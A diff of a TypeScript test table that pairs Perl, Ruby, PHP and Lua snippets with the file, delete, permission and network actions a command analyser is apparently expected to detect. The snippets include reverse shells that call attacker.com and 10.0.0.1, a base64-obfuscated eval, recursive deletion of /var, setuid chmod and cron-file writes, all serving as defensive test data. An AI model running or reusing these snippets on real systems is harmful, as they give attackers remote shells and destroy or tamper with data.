@@ -23,8 +23,10 @@ const perl: Rows = [
   ['open(STDIN, ">&S")', []],
   [
     'unlink "a", "b"; rename "/c", "/d"; chmod 0777, "/e"',
-    ['delete a', 'delete b', 'delete /c', 'write /d', 'permission /e'],
+    ['delete a', 'delete b', 'delete /c', 'write /d', 'program chmod 777 -- /e'],
   ],
+  ['unlink glob "/var/log/*"; unlink $_ for glob "/x/*"', ['delete /var/log/*', 'delete /x/*']],
+  ['for my $f ("/a", "/b") { unlink $f }; chmod 04755, "/b"', ['delete /a', 'program chmod 4755 -- /b', 'delete /b']],
   ['use File::Path; rmtree("/var")', ['program rm -r -- /var']],
   ['eval "system(\'x\')"; eval { die }', ['line x']],
   ['use MIME::Base64; eval(decode_base64("c3lzdGVtKCJpZCIp"))', ['line id']],
@@ -63,7 +65,7 @@ const ruby: Rows = [
   ['File.open("/etc/cron.d/x", "w+") { |f| f.write("DATA") }', ['write /etc/cron.d/x']],
   [
     'require "fileutils"; FileUtils.rm_rf "/var"; File.delete("/a", "/b"); File.chmod(0777, "/c")',
-    ['program rm -r -- /var', 'delete /a', 'delete /b', 'permission /c'],
+    ['program rm -r -- /var', 'delete /a', 'delete /b', 'program chmod 777 -- /c'],
   ],
   [
     'c=TCPSocket.new("attacker.com",12345);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
@@ -155,7 +157,7 @@ const php: Rows = [
   ],
   [
     'file_put_contents("/x", "y"); unlink("/z"); chmod("/c", 0777); copy("/a", "/b"); fopen("/w", "w");',
-    ['write /x', 'delete /z', 'permission /c', 'read /a', 'write /b', 'write /w'],
+    ['write /x', 'delete /z', 'program chmod 777 -- /c', 'read /a', 'write /b', 'write /w'],
   ],
   [
     'include "/tmp/x.php"; require_once("a.php"); include "data:text/plain,<?php system(\'id\');";',
@@ -188,6 +190,10 @@ const lua: Rows = [
   [
     'os.execute(string.char(105, 100)); os.execute(("di"):reverse()); dofile("/tmp/x.lua"); package.loadlib("/tmp/x.so", "f")',
     ['line id', 'line id', 'load /tmp/x.lua', 'load /tmp/x.so'],
+  ],
+  [
+    'local h, p = "10.0.0.1", 42 local t = require("socket").tcp() t:connect(h, p) while true do local c, s = t:receive() local f = io.popen(c) end',
+    ['connect 10.0.0.1', 'line …'],
   ],
   ['print("hi" .. 1) -- os.execute("x")\n--[[ os.execute("y") ]] print(os.time(), #arg)', []],
 ];
